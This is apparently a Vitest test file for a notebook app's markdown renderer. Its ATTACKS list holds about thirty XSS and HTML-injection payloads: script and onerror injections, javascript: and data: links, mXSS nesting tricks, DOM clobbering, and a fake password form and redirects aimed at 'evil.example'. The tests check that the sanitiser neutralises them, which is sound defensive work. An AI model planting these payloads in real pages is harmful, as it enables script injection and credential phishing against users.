// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

function render(source: string, options = {}): HTMLElement {
  const root = document.createElement('div');
  root.append(renderMarkdown(source, options).content);
  return root;
}
const html = (source: string, options = {}): string => render(source, options).innerHTML.trim();

/** Ways in that sanitisers have fallen for, and ways to borrow the app's own look or address. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<form id=x><input name=attributes><input name=nodeName></form>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; java&Tab;script:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example)">x</div>',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example><base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<div id=root class="mantine-Modal-root">x</div><a name=main>x</a><img name=getElementById>',
  '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
  '<video src=https://evil.example autoplay></video><audio src=https://evil.example></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p data-formula=display data-withheld=x aria-label=x role=dialog tabindex=0>x</p>',
  '$\\href{javascript:alert(1)}{x}$ $\\htmlClass{x}{y}$',
  '```python\n</code></pre><script>alert(1)</script>\n```',
  '<pre><code class="language-python mantine-Button-root">x</code></pre>',
  '<table background="https://evil.example"><td background="https://evil.example">x',
  '<img srcset="https://evil.example 1x" src="https://evil.example/x.png">',
];

const ALLOWED_SCHEMES = /^(?:https?:\/\/|mailto:|#h-|\/(?:n|spaces|people|search)\b)/;

function expectHarmless(root: HTMLElement): void {
  const forbidden =
    'script,style,link,base,meta,iframe,object,embed,form,input,button,select,textarea,svg,math,template,noscript,video,audio,source,picture,dialog';
  expect(root.querySelector(forbidden)?.outerHTML).toBeUndefined();
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(
        name.startsWith('on') || ['style', 'name', 'srcset', 'background', 'action'].includes(name),
        `${name}=${value}`,
      ).toBe(false);
      if (name === 'id') expect(value.startsWith('h-')).toBe(true);
      if (name === 'href') expect(value).toMatch(ALLOWED_SCHEMES);
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp|avif);base64,/);
      if (name === 'class') expect(value).not.toContain('mantine');
    }
  }
}

describe('renderMarkdown', () => {
  it.each(ATTACKS)('makes harmless: %s', (attack) => {
    expectHarmless(render(attack));
    expectHarmless(render(`- a\n\n  > ${attack}\n\n| ${attack.replaceAll('\n', ' ')} |\n|---|\n| x |`));
  });

  it('makes any mixture of attacks harmless', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 12 })), { maxLength: 5 }),
        (parts) => {
          expectHarmless(render(parts.join('')));
        },
      ),
      { numRuns: 150 },
    );
  });

  it('opens links to other sites in a new tab without telling where from', () => {
    expect(html('[docs](https://example.org)')).toBe(
      '<p><a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>',
    );
  });

  it('keeps links to notebooks of this hub, but none to its API', () => {
    expect(html('[a](/n/sales/report) [b](/api/v1/session) [c](other.ipynb)')).toBe(
      '<p><a href="/n/sales/report">a</a> <a title="Not part of this notebook: /api/v1/session">b</a> <a title="Not part of this notebook: other.ipynb">c</a></p>',
    );
  });

  it('says what a picture elsewhere shows instead of loading it', () => {
    expect(render('![Trend](https://example.org/t.png)').textContent?.trim()).toBe(
      'Trend (image at example.org)',
    );
    expect(render('![Trend](plots/t.png)').textContent?.trim()).toBe(
      'Trend (this image is not part of the notebook)',
    );
  });

  it('shows attached pictures of safe types only', () => {
    const attachments = {
      'a b.png': { 'image/png': 'iVBORw0KGgo=\n' },
      'x.svg': { 'image/svg+xml': 'PHN2Zy8+' },
    };
    expect(
      render('![p](attachment:a%20b.png)', { attachments }).querySelector('img')?.getAttribute('src'),
    ).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(render('![p](attachment:x.svg)', { attachments }).querySelector('img')).toBeNull();
    expect(render('![p](attachment:__proto__)', { attachments }).querySelector('img')).toBeNull();
  });

  it('names headings by the anchors it is given and points links at them', () => {
    const root = render('# One\n\n[go](#Two-Words)\n\n## Two words', { anchors: ['one', 'two-words'] });
    expect([...root.querySelectorAll('h1, h2')].map((heading) => heading.id)).toEqual([
      'h-one',
      'h-two-words',
    ]);
    expect(root.querySelector('a')?.getAttribute('href')).toBe('#h-two-words');
  });

  it('finds formulas and leaves money and code alone', () => {
    const { formulas } = renderMarkdown(
      'It costs $5 and $10. $x^2$, `$no$`, \\(y\\)\n\n$$\na_b\n$$\n\n\\begin{align}\nz\n\\end{align}\n',
    );
    expect(formulas.map(({ tex, isDisplay }) => [tex.trim(), isDisplay])).toEqual([
      ['x^2', false],
      ['y', false],
      ['a_b', true],
      ['\\begin{align}\nz\n\\end{align}', true],
    ]);
  });

  it('reads formulas between two backslashes and a bracket, as Jupyter does', () => {
    const { formulas } = renderMarkdown('of (\\\\(\\sigma\\\\), \\\\(a\\) b\\\\))\n\n\\\\[\nc_d\n\\\\]\n');
    expect(formulas.map(({ tex, isDisplay }) => [tex.trim(), isDisplay])).toEqual([
      ['\\sigma', false],
      ['a\\) b', false],
      ['c_d', true],
    ]);
  });

  it.each([
    '>'.repeat(60_000),
    '> '.repeat(60),
    '- '.repeat(5_000),
    '_a_'.repeat(10_000),
    '[a]('.repeat(10_000),
  ])('shows at once, as it is written, what would keep the parser busy (case %#)', (source) => {
    const start = performance.now();
    expect(html(source)).toContain('<pre>');
    expect(performance.now() - start).toBeLessThan(500);
  });

  it('keeps rules and long tables', () => {
    expect(html(`${'-'.repeat(80)}\n`)).toBe('<hr>');
    expect(render(`|a|b|\n|-|-|\n${'|1|2|\n'.repeat(50)}`).querySelectorAll('tr')).toHaveLength(51);
  });

  it('never throws, whatever the text', () => {
    const text = fc.string({
      unit: fc.constantFrom(
        '#',
        '*',
        '_',
        '`',
        '$',
        '[',
        ']',
        '(',
        ')',
        '<',
        '>',
        '|',
        '-',
        '\n',
        'a',
        '\\',
        '!',
        '\uE000',
        '0',
        '\uE001',
      ),
    });
    fc.assert(fc.property(text, (source) => void renderMarkdown(source)));
  });
});
